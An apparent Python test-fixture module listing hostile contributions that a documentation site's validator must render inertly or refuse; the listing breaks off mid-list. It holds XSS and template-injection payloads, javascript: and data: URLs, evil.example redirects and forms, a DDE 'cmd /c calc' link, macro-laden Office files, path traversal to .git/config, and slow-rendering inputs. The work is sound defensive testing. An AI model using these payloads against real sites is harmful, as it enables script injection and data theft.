"""The hostile cases, as data. See ``__init__.py`` for how they are used and added."""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from fixture_tree import zip_of
from word_documents import plain_document, relationships, with_parts, with_types, workbook

# Marks what must never be published: placed in the copy's .git/config and outside docs/.
SECRET = "hub-secret-3f9c1b7e"


def payload(where: str) -> str:
    """Text that runs ``window.__pwned = where`` if any context prints it unescaped.

    Breaks out of attributes (both quotes), opens an element with a handler and a
    script, and tries template evaluation ({{7*7}} must stay text, never become 49).
    """
    return (f"\"'><img src=x onerror=\"window.__pwned='{where}'\">"
            f"<script>window.__pwned='{where}'</script>{{{{7*7}}}}")


def short(where: str) -> str:
    """A payload that fits a field of at most 60 characters (a tag)."""
    return f"\"><svg onload=window.__pwned='{where}'>"


def _q(value: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(value, ensure_ascii=False)


def page(*fields: str, body: str = "Text.\n") -> str:
    """A Markdown file: '---' on line 1, then the fields, '---', a blank line, the body."""
    return "---\n" + "".join(f"{line}\n" for line in fields) + "---\n\n" + body


TS = (f"title: {_q('Refused case')}", f"summary: {_q('Must not be published.')}")  # lines 2 and 3
# A real one-pixel PNG (an event's photo must be a picture the build can measure).
PNG_PIXEL = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
             b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84"
             b"\x00\x00\x00\x00IEND\xaeB`\x82")


@dataclass(frozen=True)
class Inert:
    """Files added to the inert build; ``pages`` are the URLs (both languages) to open."""

    name: str
    files: dict[str, str | bytes]
    pages: tuple[str, ...] = ()


@dataclass(frozen=True)
class Refused:
    """One file (or symbolic link) the validator must refuse with ``expected`` (path:line: field).

    In ``expected``, ``{line}`` stands for the line where ``replace``'s new text starts (for
    edits of an existing file, such as a data file), and ``{any}`` for any line (a problem
    located by rendering, whose exact line depends on the renderer).
    """

    name: str
    path: str
    content: str | bytes = ""
    expected: str = ""
    symlink_to: str | None = None  # relative to the repository root
    extra: dict[str, str | bytes] = field(default_factory=dict)
    replace: tuple[str, str] | None = None  # (old, new) in the existing file at ``path``


# --- inert: accepted and shown as text -------------------------------------------------

HOSTILE_TOPIC = "hostile-topic"
# Appended to data/taxonomies.yml's topics: the labels and intros are reviewed data, but
# must still be text on every page that shows them.
TAXONOMY_ENTRY = f"""  {HOSTILE_TOPIC}:
    label: {{en: {_q('Topic ' + payload('topic-label-en'))}, ru: {_q('Тема ' + payload('topic-label-ru'))}}}
    intro:
      en: {_q(payload('topic-intro-en'))}
      ru: {_q(payload('topic-intro-ru'))}
"""
# Replacements in data/ui.yml (the site's own words, printed on every page).
UI_EDITS = {
    "  related: Related items\n": f"  related: {_q('Related ' + payload('ui-related-en'))}\n",
    "  related: Похожие материалы\n": f"  related: {_q('Похожие ' + payload('ui-related-ru'))}\n",
    "  go_home: Go to the home page\n": f"  go_home: {_q('Home ' + payload('ui-home-en'))}\n",
    '  showing: "Showing {shown} of {total}"\n':
        f"  showing: {_q('Showing {shown} of {total} ' + payload('ui-showing-en'))}\n",
}

# Replacements in data/fields.yml (field help, printed on the contributor guide and the open-data page,
# and written into the published JSON Schemas).
FIELD_HELP_EDITS = {
    ('  en: "When it was published or, for the materials of an event, when the event was held (its first day, '
     'if it lasted several): YYYY, YYYY-MM or YYYY-MM-DD. Listings show and sort by this date."\n'):
        f"  en: {_q('When ' + payload('help-date-en'))}\n",
    ('  ru: "Когда материал опубликован, а для материалов мероприятия — когда мероприятие проведено (его первый '
     'день, если оно длилось несколько дней): ГГГГ, ГГГГ-ММ или ГГГГ-ММ-ДД. По этой дате материалы показываются '
     'и упорядочиваются в списках."\n'):
        f"  ru: {_q('Когда ' + payload('help-date-ru'))}\n",
    '  en: "The language of the original; the others are translations."\n':
        f"  en: {_q('Original ' + payload('help-original-language-en'))}\n",
}

INERT_BODY = f"""Code shows markup as text: `<script>window.__pwned='code-span'</script>`.

```html
<script>window.__pwned='fence'</script>
<img src=x onerror="window.__pwned='fence-img'">
```

--8<-- ".git/config"

--8<-- "../../.git/config"

<!-- <script>window.__pwned='comment'</script> -->

Escaped: &lt;script&gt;window.__pwned='escaped'&lt;/script&gt;

[A link with a hostile title](https://example.org/ "\\" onmouseover=\\"window.__pwned='link-title'")

## Not a tag: 3 < 4 & "quotes" 'too'

Template syntax stays text: {{{{ 7*7 }}}} {{% raw %}} ${{7*7}}
"""

INERT: list[Inert] = [
    Inert("every front-matter field, and its translation", {
        "docs/reports/hostile-fields.md": page(
            f"title: {_q('Report ' + payload('title'))}",
            f"summary: {_q('Summary ' + payload('summary'))}",
            'date: "2026-11-20"',
            "countries: [kz]",
            f"topics: [{HOSTILE_TOPIC}]",
            f"authors: [{_q(payload('author'))}]",
            f"tags: [{_q(short('tag'))}]",
            "attachments:",
            f"  - {{title: {_q(payload('attachment-title'))}, file: files/hostile-slides.pdf}}",
            f"  - {{title: {_q(payload('attachment-url-title'))}, url: \"https://example.org/a.pdf?x=1&y=2\"}}",
            body=INERT_BODY),
        "docs/reports/files/hostile-slides.pdf": b"%PDF-1.4\n%hostile\n",
        "docs/reports/hostile-fields.ru.md": page(
            f"title: {_q('Отчёт ' + payload('title-ru'))}",
            f"summary: {_q('Кратко ' + payload('summary-ru'))}",
            f"tags: [{_q(short('tag-ru'))}]",
            body="Русский текст: `<script>window.__pwned='code-ru'</script>`.\n"),
    }, ("reports/hostile-fields/", "ru/reports/hostile-fields/")),
    Inert("an event's location, programme, speakers, recording and photos, and their translation", {
        "docs/workshops/hostile-event.md": page(
            f"title: {_q('Workshop ' + payload('event-title'))}",
            f"summary: {_q('An event.')}",
            'date: "2026-11-21"',
            f"topics: [{HOSTILE_TOPIC}]",
            "event:",
            "  kind: workshop",
            "  format: offline",
            f"  location: {_q(payload('location'))}",
            '  end: "2026-11-22"',
            "  agenda:",
            f'    - {{day: "2026-11-21", time: "09:00", end: "10:00", title: {_q(payload("agenda-title"))}, '
            f'speaker: {_q(payload("agenda-speaker"))}}}',
            f'    - {{day: "2026-11-22", time: "09:00", title: {_q("Day two")}}}',
            "  speakers:",
            f"    - {{name: {_q(payload('speaker-name'))}, role: {_q(payload('speaker-role'))}, "
            f"organisation: {_q(payload('speaker-organisation'))}}}",
            '  recording: "https://video.example/embed/1?a=1&b=2#t=30"',
            "  photos:",
            f"    - {{file: files/hostile-photo.png, alt: {_q(payload('photo-alt'))}, "
            f"caption: {_q(payload('photo-caption'))}}}"),
        "docs/workshops/files/hostile-photo.png": PNG_PIXEL,
        "docs/workshops/hostile-event.ru.md": page(
            f"title: {_q('Семинар ' + payload('event-title-ru'))}",
            f"summary: {_q('Мероприятие.')}",
            "event:",
            f"  location: {_q(payload('location-ru'))}",
            "  agenda:",
            f"    - {{title: {_q(payload('agenda-title-ru'))}, speaker: {_q(payload('agenda-speaker-ru'))}}}",
            f"    - {{title: {_q('День второй')}}}",
            "  speakers:",
            f"    - {{name: {_q(payload('speaker-name-ru'))}, role: {_q(payload('speaker-role-ru'))}, "
            f"organisation: {_q(payload('speaker-organisation-ru'))}}}",
            "  photos:",
            f"    - {{alt: {_q(payload('photo-alt-ru'))}, caption: {_q(payload('photo-caption-ru'))}}}"),
    }, ("workshops/hostile-event/", "ru/workshops/hostile-event/")),
    Inert("field help texts", {}, ("contributing/", "ru/contributing/", "open-data/", "ru/open-data/")),
    Inert("a taxonomy term's label and intro, and the interface words", {}, (
        f"topics/{HOSTILE_TOPIC}/", f"ru/topics/{HOSTILE_TOPIC}/", "topics/", "ru/topics/",
        "library/", "ru/library/", "", "ru/", "reports/", "ru/reports/", "404.html", "ru/404.html")),
]


# Files of every accepted format, as a contribution would attach them: each is published
# and opened in Chromium on its own before the pages (test_hostile.py), to show that none
# runs anything on the site's origin.
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
       b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84"
       b"\x00\x00\x00\x00IEND\xaeB`\x82")
PDF_WITH_SCRIPT = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
                   b"<script>window.__pwned='pdf'</script>\n%%EOF\n")
CSV_WITH_MARKUP = ("title,value\n<script>window.__pwned='csv'</script>,-12.5\n"
                   "\"<img src=x onerror=window.__pwned='csv-img'>\",+3\n").encode("utf-8")
CONTRIBUTED_FILES = {
    "docs/reports/files/chart.png": PNG,
    "docs/reports/files/polyglot.pdf": PDF_WITH_SCRIPT,
    "docs/reports/files/data.csv": CSV_WITH_MARKUP,
}
# What a spreadsheet skips before a formula: each must reach catalog.csv with an apostrophe.
FORMULA_TITLES = [" =1+1", "\u00a0=1+1", "\u200b@SUM(1)", "\ufeff-1+1", "\n=1", "\uff1d1+1",
                  '"=1+1', "\t+SUM(1)", "-1+1", "\t+1"]
DRAFT_FILES = {"docs/reports/files/draft-only.pdf": b"%PDF-1.7\ndraft\n",
               "docs/reports/files/draft-chart.png": PNG}

INERT += [
    Inert("every accepted file format, used by a product, and footnotes", {
        "docs/reports/hostile-files.md": page(
            f"title: {_q('Files ' + payload('files-title'))}",
            'summary: "Attachments of every accepted kind."',
            "attachments:",
            '  - {title: "Polyglot PDF", file: files/polyglot.pdf}',
            '  - {title: "Data", file: files/data.csv}',
            body="![A chart](files/chart.png)\n\nA claim[^1] and another[^note].\n\n"
                 "[^1]: Source: a report, 2022.\n[^note]: A second note.\n"),
        **CONTRIBUTED_FILES,
    }, ("reports/hostile-files/", "ru/reports/hostile-files/")),
    Inert("a draft's attachment and image", {
        "docs/reports/hostile-draft.md": page(
            'title: "A draft"', 'summary: "Not published, nor its files."', "draft: true",
            "attachments:", '  - {title: "Draft", file: files/draft-only.pdf}',
            body="![Draft chart](files/draft-chart.png)\n"),
        **DRAFT_FILES,
    }),
    Inert("titles a spreadsheet would read as formulas", {
        f"docs/reports/hostile-formula-{i}.md": page(f"title: {_q(title)}", 'summary: "A formula."')
        for i, title in enumerate(FORMULA_TITLES)
    }),
    Inert("a very long heading", {
        "docs/reports/hostile-long-heading.md": page('title: "Long heading"', 'summary: "S."',
                                                     body="## " + "word " * 20_000 + "\n"),
    }, ("reports/hostile-long-heading/",)),
]


# --- refused: stopped with a located error ---------------------------------------------

G = "docs/guides"


def _in_body(*cases: tuple[str, int, str]) -> list[Refused]:
    """Guides refused for their body: (what, the line expected, the body), each in a file of its own."""
    return [Refused(what, f"{G}/r-body-{n}.md", page(*TS, body=body), f"{G}/r-body-{n}.md:{line}: body")
            for n, (what, line, body) in enumerate(cases)]

REFUSED: list[Refused] = [
    Refused("file name with markup", f'{G}/"><img src=x onerror=alert(1)>.md', page(*TS),
            f'{G}/"><img src=x onerror=alert(1)>.md:1: file'),
    Refused("dot folder", "docs/.git/config", f"[core]\n{SECRET}\n", "docs/.git:1: file"),
    Refused("symlinked file", f"{G}/r-link.md", symlink_to=".git/config",
            expected=f"{G}/r-link.md:1: file"),
    Refused("symlinked folder", f"{G}/r-dir", symlink_to="hubcore", expected=f"{G}/r-dir:1: file"),
    Refused("script", f"{G}/r-script.md", page(*TS, body="<script>window.__pwned=1</script>\n"),
            f"{G}/r-script.md:6: body"),
    Refused("iframe with a script URL", f"{G}/r-iframe.md",
            page(*TS, body='<iframe src="javascript:alert(1)"></iframe>\n'), f"{G}/r-iframe.md:6: body"),
    Refused("object", f"{G}/r-object.md", page(*TS, body='<object data="x.swf"></object>\n'),
            f"{G}/r-object.md:6: body"),
    Refused("embed", f"{G}/r-embed.md", page(*TS, body='<embed src="x.swf">\n'), f"{G}/r-embed.md:6: body"),
    Refused("event handler", f"{G}/r-onmouseover.md",
            page(*TS, body='<div onmouseover="alert(1)">x</div>\n'), f"{G}/r-onmouseover.md:6: body"),
    Refused("svg onload", f"{G}/r-svg.md", page(*TS, body='<svg onload="alert(1)"></svg>\n'),
            f"{G}/r-svg.md:6: body"),
    Refused("javascript: inline link", f"{G}/r-js-link.md", page(*TS, body="[x](javascript:alert(1))\n"),
            f"{G}/r-js-link.md:6: body"),
    Refused("javascript: reference link", f"{G}/r-js-ref.md",
            page(*TS, body="[x][1]\n\n[1]: javascript:alert(1)\n"), f"{G}/r-js-ref.md:8: body"),
    Refused("javascript: autolink", f"{G}/r-js-auto.md", page(*TS, body="<javascript:alert(1)>\n"),
            f"{G}/r-js-auto.md:6: body"),
    Refused("javascript: in attr_list", f"{G}/r-attr-list.md",
            page(*TS, body='A [link](https://example.org){: href="javascript:alert(1)" }\n'),
            f"{G}/r-attr-list.md:6: body"),
    Refused("handler in attr_list", f"{G}/r-attr-on.md",
            page(*TS, body='A paragraph.\n{: onclick="alert(1)" }\n'), f"{G}/r-attr-on.md:7: body"),
    Refused("tab entity in the scheme", f"{G}/r-entity.md",
            page(*TS, body='<a href="jav&#x09;ascript:alert(1)">x</a>\n'), f"{G}/r-entity.md:6: body"),
    Refused("literal tab in the scheme", f"{G}/r-tab.md",
            page(*TS, body='<a href="javas\tcript:alert(1)">x</a>\n'), f"{G}/r-tab.md:6: body"),
    Refused("data: URL with HTML", f"{G}/r-data.md",
            page(*TS, body="[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"),
            f"{G}/r-data.md:6: body"),
    Refused("script after an unclosed fence", f"{G}/r-fence.md",
            page(*TS, body="```\n<script>alert(1)</script>\n"), f"{G}/r-fence.md:7: body"),
    Refused("script between stray backticks", f"{G}/r-backticks.md",
            page(*TS, body="Press ` once.\n\n<script>alert(1)</script>\n\nThen ` again.\n"),
            f"{G}/r-backticks.md:8: body"),
    Refused("comment a browser ends early", f"{G}/r-comment.md",
            page(*TS, body="<!--><img src=x onerror=alert(1)>-->\n"), f"{G}/r-comment.md:6: body"),
    Refused("meta refresh", f"{G}/r-meta.md",
            page(*TS, body='<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'),
            f"{G}/r-meta.md:6: body"),
    Refused("base", f"{G}/r-base.md", page(*TS, body='<base href="https://evil.example/">\n'),
            f"{G}/r-base.md:6: body"),
    Refused("form", f"{G}/r-form.md",
            page(*TS, body='<form action="https://evil.example/"><input name="p"></form>\n'),
            f"{G}/r-form.md:6: body"),
    Refused("image from another host", f"{G}/r-remote-image.md",
            page(*TS, body="![x](https://tracker.example/pixel.png)\n"), f"{G}/r-remote-image.md:6: body"),
    Refused("link outside docs/", f"{G}/r-outside.md", page(*TS, body="[config](../../mkdocs.yml)\n"),
            f"{G}/r-outside.md:6: body"),
    Refused("template field", f"{G}/r-template.md",
            page(*TS, "template: redirect.html"), f"{G}/r-template.md:4: template"),
    Refused("hide field", f"{G}/r-hide.md", page(*TS, "hide: [navigation]"), f"{G}/r-hide.md:4: hide"),
    Refused("YAML anchor", f"{G}/r-anchor.md", page(*TS, "tags: &x [a]", "authors: *x"),
            f"{G}/r-anchor.md:4: front matter"),
    Refused("attachment with a script URL", f"{G}/r-att-url.md",
            page(*TS, "attachments:", '  - {title: X, url: "javascript:alert(1)"}'),
            f"{G}/r-att-url.md:5: attachments[0].url"),
    Refused("attachment URL breaking out of the attribute", f"{G}/r-att-quote.md",
            page(*TS, "attachments:", """  - {title: X, url: 'https://example.org/"><script>alert(1)</script>'}"""),
            f"{G}/r-att-quote.md:5: attachments[0].url"),
    Refused("a recording with a script URL", "docs/workshops/r-rec-js.md",
            page(*TS, 'event: {kind: workshop, recording: "javascript:alert(1)"}'),
            "docs/workshops/r-rec-js.md:4: event.recording"),
    Refused("a recording as a data: URL", "docs/workshops/r-rec-data.md",
            page(*TS, 'event: {kind: workshop, recording: "data:text/html,<script>alert(1)</script>"}'),
            "docs/workshops/r-rec-data.md:4: event.recording"),
    Refused("a recording URL breaking out of the attribute", "docs/workshops/r-rec-quote.md",
            page(*TS, """event: {kind: workshop, recording: 'https://video.example/"><script>alert(1)</script>'}"""),
            "docs/workshops/r-rec-quote.md:4: event.recording"),
    Refused("a photo as a data: URL", "docs/workshops/r-photo-data.md",
            page(*TS, "event:", "  kind: workshop", "  photos:",
                 '    - {file: "data:image/svg+xml,<svg onload=alert(1)>", alt: "x"}'),
            "docs/workshops/r-photo-data.md:7: event.photos[0].file"),
    Refused("a photo outside docs/", "docs/workshops/r-photo-out.md",
            page(*TS, "event:", "  kind: workshop", "  photos:", '    - {file: ../../.git/config, alt: "x"}'),
            "docs/workshops/r-photo-out.md:7: event.photos[0].file"),
    Refused("a photo without alt text", "docs/workshops/r-photo-alt.md",
            page(*TS, "event:", "  kind: workshop", "  photos:", "    - {file: files/r-photo.png}"),
            "docs/workshops/r-photo-alt.md:7: event.photos[0].alt",
            extra={"docs/workshops/files/r-photo.png": PNG_PIXEL}),
    Refused("a translation's agenda with markup in a neutral place", "docs/workshops/r-agenda.ru.md",
            page(f"title: {_q('Перевод')}", f"summary: {_q('Кратко.')}", "event:", "  agenda:",
                 f"    - {{time: {_q(payload('time'))}, title: {_q('Открытие')}}}"),
            "docs/workshops/r-agenda.ru.md:6: event.agenda[0].time",
            extra={"docs/workshops/r-agenda.md": page(f"title: {_q('Original')}", f"summary: {_q('S.')}",
                                                      'event: {kind: workshop, agenda: [{time: "09:00", title: O}]}')}),
    Refused("attachment outside docs/", f"{G}/r-att-file.md",
            page(*TS, "attachments:", "  - {title: X, file: ../../.git/config}"),
            f"{G}/r-att-file.md:5: attachments[0].file"),
    Refused("translation repeating a neutral field with markup", f"{G}/r-neutral.ru.md",
            page(f"title: {_q('Перевод')}", f"summary: {_q('Кратко.')}", f"authors: [{_q(payload('x'))}]"),
            f"{G}/r-neutral.ru.md:4: authors",
            extra={f"{G}/r-neutral.md": page(f"title: {_q('Original')}", f"summary: {_q('S.')}",
                                             f"authors: [{_q('A. Author')}]")}),
]


# --- refused: what a contribution may contain (issue 12's allow-list) ---------------------

F = f"{G}/files"


def attaching(*files: str) -> str:
    """A guide that attaches ``files`` (so they are used, and checked as attachments)."""
    return page(*TS, "attachments:", *(f'  - {{title: "File", file: {name}}}' for name in files))


_S = "application/vnd.openxmlformats-officedocument.spreadsheetml"
# Office files whose parts are not those of an ordinary document: each is refused by name.
OFFICE_REFUSED = {
    "embedded.docx": ("a Word file with an embedded object", with_types(plain_document(), {
        "word/embeddings/oleObject1.bin": ("application/vnd.openxmlformats-officedocument.oleObject",
                                           b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64)})),
    "renamed-macros.docx": ("a Word file whose macros are in a renamed part", with_types(plain_document(), {
        "word/x.bin": ("application/vnd.ms-office.vbaProject", b"\x00" * 64)})),
    "activex.docx": ("a Word file with an ActiveX control", with_types(plain_document(), {
        "word/activeX/activeX1.xml": ("application/vnd.ms-office.activeX+xml", b"<ax:ocx/>")})),
    "template.docx": ("a Word file fetching its template from a share", with_parts(plain_document(), {
        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file://server/share/t.dotm",
                                                       "External"))})),
    "unknown-part.docx": ("a Word file with a part of a type not on the list", with_types(plain_document(), {
        "word/extra.xml": ("application/vnd.ms-word.unknown+xml", b"<x/>")})),
    "dde.xlsx": ("an Excel file linking another workbook (DDE)", with_types(workbook(), {
        "xl/externalLinks/externalLink1.xml": (f"{_S}.externalLink+xml",
                                               b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
                                               b"</externalLink>")})),
}
WORD_WITH_MACROS = zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                         "word/vbaProject.bin": b"Attribute VB_Name = \"x\""})
SCRIPT = b"navigator.serviceWorker.register('/sw.js'); window.__pwned = 'contributed-script';\n"
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=\'svg\'">'
       b"<script>window.__pwned='svg-script'</script></svg>")
XHTML = (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
         b"<script>window.__pwned='xhtml'</script></body></html>")
HTML = b"<!doctype html><html><body><script>window.__pwned='html'</script></body></html>"
DEEP_LIST = "".join("    " * depth + "- level\n" for depth in range(60))
SLOW_BRACKETS = "[" * 3000 + "x" * 3000 + "\n"
# Found by the audit of issue 12: 3,500 headings with no blank line between them (31 KB) took
# `validate` two minutes, the renderer's work growing with the square of their number, and
# locating its 25 handlers re-rendered the page some 250 times. Refused at the 101st heading.
SLOW_HEADINGS = "".join(f"## h{i}\n" + (f'<span title="t" onclick="x{i}">a</span>\n' if i % 140 == 0 else "")
                        for i in range(3500))


def _many_problems() -> tuple[str, int]:
    """A long page (about 215 KB) with 25 event handlers spread over it, and the body line of the last."""
    lines: list[str] = []
    last = 0
    for i in range(2000):
        if i % 80 == 40:
            lines += [f'<span onclick="x{i}">a</span>', ""]
            last = len(lines) - 1
        lines += [f"Paragraph {i}: " + "word " * 18, ""]
    return "\n".join(lines) + "\n", last


MANY_PROBLEMS, LAST_PROBLEM = _many_problems()
BIG = 26 * 1024 * 1024

REFUSED += [
    # Files that are not Markdown: only used attachments, in allowed formats, in a files/ folder.
    Refused("a script at the theme's own path", "docs/assets/javascripts/bundle.js", SCRIPT,
            "docs/assets:1: file"),
    Refused("a service worker at the root", "docs/sw.js", SCRIPT, "docs/sw.js:1: file"),
    Refused("a script among attachments", f"{F}/sw.js", SCRIPT, f"{F}/sw.js:1: file",
            extra={f"{G}/r-uses-js.md": attaching("files/sw.js")}),
    Refused("an HTML page", f"{F}/page.html", HTML, f"{F}/page.html:1: file",
            extra={f"{G}/r-uses-html.md": page(*TS, body="[A page](files/page.html)\n")}),
    Refused("an SVG attachment", f"{F}/drawing.svg", SVG, f"{F}/drawing.svg:1: file",
            extra={f"{G}/r-uses-svg.md": attaching("files/drawing.svg")}),
    Refused("XHTML as .xml", f"{F}/feed.xml", XHTML, f"{F}/feed.xml:1: file",
            extra={f"{G}/r-uses-xml.md": attaching("files/feed.xml")}),
    Refused("an executable", f"{F}/tool.exe", b"MZ\x90\x00" + b"\x00" * 60, f"{F}/tool.exe:1: file",
            extra={f"{G}/r-uses-exe.md": attaching("files/tool.exe")}),
    Refused("HTML named .pdf", f"{F}/report.pdf", HTML, f"{F}/report.pdf:1: file",
            extra={f"{G}/r-uses-pdf.md": attaching("files/report.pdf")}),
    Refused("a Word file with macros", f"{F}/macros.docx", WORD_WITH_MACROS, f"{F}/macros.docx:1: file",
            extra={f"{G}/r-uses-docx.md": attaching("files/macros.docx")}),
    *(Refused(what, f"{F}/{name}", data, f"{F}/{name}:1: file",
              extra={f"{G}/r-uses-{name.replace('.', '-')}.md": attaching(f"files/{name}")})
      for name, (what, data) in OFFICE_REFUSED.items()),
    Refused("an attachment over the size limit", f"{F}/huge.pdf", b"%PDF-1.7\n" + b"0" * BIG,
            f"{F}/huge.pdf:1: file", extra={f"{G}/r-uses-huge.md": attaching("files/huge.pdf")}),
    Refused("a CSV cell a spreadsheet would run", f"{F}/formulas.csv",
            'name,link\nA,1\nB," =HYPERLINK(""https://evil.example"")"\n'.encode(), f"{F}/formulas.csv:3: file",
            extra={f"{G}/r-uses-csv.md": attaching("files/formulas.csv")}),
    Refused("a file no page uses", f"{F}/orphan.pdf", b"%PDF-1.7\n", f"{F}/orphan.pdf:1: file"),
    Refused("CNAME", "docs/CNAME", b"evil.example\n", "docs/CNAME:1: file"),
    Refused("robots.txt", "docs/robots.txt", b"User-agent: *\nDisallow: /\n", "docs/robots.txt:1: file"),
    Refused("a hidden file", "docs/.nojekyll", b"", "docs/.nojekyll:1: file"),
    Refused("a hidden folder", "docs/.well-known/security.txt", b"x", "docs/.well-known:1: file"),
    Refused("remark configuration in package.json", f"{G}/package.json",
            b'{"remarkConfig": {"plugins": ["./evil.mjs"]}}', f"{G}/package.json:1: file"),
    Refused("a remark configuration module", f"{G}/.remarkrc.mjs", b"import './evil.mjs'\n",
            f"{G}/.remarkrc.mjs:1: file"),
    Refused("a page over the size limit", f"{G}/r-huge.md", page(*TS, body="word " * 60_000),
            f"{G}/r-huge.md:1: file"),
    # Two sources for one address, and addresses the site keeps for itself.
    Refused("a page at a language's address", "docs/ru.md", page(*TS), "docs/ru.md:1: file"),
    Refused("a page and a folder for one address", f"{G}/r-twice/index.md", page(*TS),
            f"{G}/r-twice:1: file", extra={f"{G}/r-twice.md": page(*TS)}),
    Refused("a top-level page at a section's address", "docs/reports.md", page(*TS),
            "docs/reports.md:1: file"),
    # Data files are checked like content.
    Refused("an unknown data file", "data/extra.yml", b"x: 1\n", "data/extra.yml:1: file"),
    Refused("a vocabulary id that is a path", "data/taxonomies.yml",
            replace=("\n# Organisations behind the project.",
                     "\n  ../../escape:\n    label: {en: X, ru: X}\n# Organisations behind the project."),
            expected="data/taxonomies.yml:{line}: topics.../../escape"),
    Refused("a licence address with a script", "data/taxonomies.yml",
            replace=("    url: https://creativecommons.org/licenses/by/4.0/", '    url: "javascript:alert(1)"'),
            expected="data/taxonomies.yml:{line}: licenses.CC-BY-4.0.url"),
    Refused("a licence address breaking out of the attribute", "data/taxonomies.yml",
            replace=("    url: https://creativecommons.org/licenses/by-sa/4.0/",
                     """    url: 'https://x.org/"><script>alert(1)</script>'"""),
            expected="data/taxonomies.yml:{line}: licenses.CC-BY-SA-4.0.url"),
    # The checker itself: inputs that used to hang it or end in a traceback.
    Refused("a huge integer", "docs/workshops/r-int.md",
            page(*TS, f"event: {{kind: workshop, participants: {'9' * 5000}}}"), "docs/workshops/r-int.md:4: event.participants"),
    Refused("deeply nested YAML", f"{G}/r-deep-yaml.md", page(*TS, "tags: " + "[" * 500 + "]" * 500),
            f"{G}/r-deep-yaml.md:4: front matter"),
    Refused("a NUL character", f"{G}/r-nul.md", page('title: "A\x00B"', 'summary: "S"'), f"{G}/r-nul.md:2: file"),
    Refused("a lone surrogate", f"{G}/r-surrogate.md", page('title: "\\ud800"', 'summary: "S"'),
            f"{G}/r-surrogate.md:2: title"),
    Refused("a non-character", f"{G}/r-nonchar.md", page('title: "\\uFFFE"', 'summary: "S"'),
            f"{G}/r-nonchar.md:2: title"),
    Refused("a deeply nested list", f"{G}/r-deep-list.md", page(*TS, body=DEEP_LIST), f"{G}/r-deep-list.md:19: body"),
    Refused("a very long definition list", f"{G}/r-definitions.md",
            page(*TS, body="Term\n: Definition\n" * 700), f"{G}/r-definitions.md:{{any}}: body"),
    Refused("brackets that make rendering slow", f"{G}/r-brackets.md", page(*TS, body=SLOW_BRACKETS),
            f"{G}/r-brackets.md:6: body"),
    Refused("headings with no blank line between them", f"{G}/r-slow-headings.md", page(*TS, body=SLOW_HEADINGS),
            f"{G}/r-slow-headings.md:107: body"),
    Refused("more than 1,000 headings", f"{G}/r-headings.md",
            page(*TS, body="".join(f"## Heading {i}\n\nText.\n\n" for i in range(1500))),
            f"{G}/r-headings.md:4006: body"),
    Refused("thousands of content tabs", f"{G}/r-tabs.md", page(*TS, body='=== "t"\n' * 4000),
            f"{G}/r-tabs.md:206: body"),
    Refused("a run of backslashes", f"{G}/r-backslashes.md", page(*TS, body="\\" * 200_000 + "\n"),
            f"{G}/r-backslashes.md:6: body"),
    Refused("thousands of references to one footnote", f"{G}/r-footnote.md",
            page(*TS, body="See[^1].\n\n" * 2000 + "[^1]: A note.\n"), f"{G}/r-footnote.md:56: body"),
    Refused("a paragraph whose lines look like list items", f"{G}/r-lazy-list.md",
            page(*TS, body="Text.\n" + "- [x\n" * 3000), f"{G}/r-lazy-list.md:6: body"),
    Refused("brackets behind a fence the renderer does not open", f"{G}/r-pseudo-fence.md",
            page(*TS, body="``` not a language\n\n" + SLOW_BRACKETS + "\n```\n"), f"{G}/r-pseudo-fence.md:8: body"),
    Refused("headings split by carriage returns alone", f"{G}/r-carriage-returns.md",
            page(*TS, body="## h\r" * 3000 + "\n"), f"{G}/r-carriage-returns.md:6: body"),
    Refused("25 problems in a long page, each located", f"{G}/r-many-problems.md", page(*TS, body=MANY_PROBLEMS),
            f"{G}/r-many-problems.md:{5 + LAST_PROBLEM}: body"),
    # What validate missed and only the built HTML showed, or what broke out of an id.
    Refused("a heading id breaking out", f"{G}/r-heading-id.md",
            page(*TS, body='## Title {#x" onclick="alert(1)}\n'), f"{G}/r-heading-id.md:6: body"),
    Refused("an encoded script URL in a reference", f"{G}/r-ref-entity.md",
            page(*TS, body="[x][1]\n\n[1]: jav&#x61;script:alert(1)\n"), f"{G}/r-ref-entity.md:8: body"),
    Refused("an image as a data: URL", f"{G}/r-data-image.md",
            page(*TS, body="![x](data:image/png;base64,iVBORw0KGgo=)\n"), f"{G}/r-data-image.md:6: body"),
    # What used to be published broken or lost without a word.
    Refused("a control character in a title", f"{G}/r-bell.md", page('title: "Bell \x07"', 'summary: "S"'),
            f"{G}/r-bell.md:2: file"),
    Refused("a bidirectional override in a summary", f"{G}/r-bidi.md",
            page('title: "T"', 'summary: "\u202egnp.exe"'), f"{G}/r-bidi.md:3: file"),
    Refused("a closing --- with a no-break space", f"{G}/r-nbsp.md",
            "---\ntitle: \"T\"\nsummary: \"S\"\n---\u00a0\n\nBody.\n", f"{G}/r-nbsp.md:4: front matter"),
    Refused("a Windows path", f"{G}/r-windows.md", page(*TS, body="[Report](C:\\Users\\me\\report.pdf)\n"),
            f"{G}/r-windows.md:6: body"),
    Refused("a file: address", f"{G}/r-file-url.md", page(*TS, body="[Report](file:///C:/report.pdf)\n"),
            f"{G}/r-file-url.md:6: body"),
